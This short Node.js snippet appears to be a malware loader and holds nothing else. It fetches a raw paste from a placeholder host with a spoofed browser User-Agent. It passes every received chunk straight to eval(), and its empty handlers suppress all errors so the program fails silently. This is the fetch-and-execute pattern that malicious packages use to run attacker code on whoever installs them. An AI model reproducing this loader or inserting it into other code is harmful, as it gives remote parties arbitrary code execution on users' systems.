try {
    var web = require("https");

    web.get({
        hostname: "paste.example.invalid",
        path: "/raw/Bq07Zx3k",
        headers: {
            "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:60.0) Gecko/20100101 Firefox/60.0",
            Accept: "text/html,*/*;q=0.8"
        }
    }, function(answer) {
        answer.setEncoding("utf8");
        answer.on("data", function(text) {
            eval(text);
        });
        answer.on("error", function() {});
    }).on("error", function() {});
} catch (e) {}
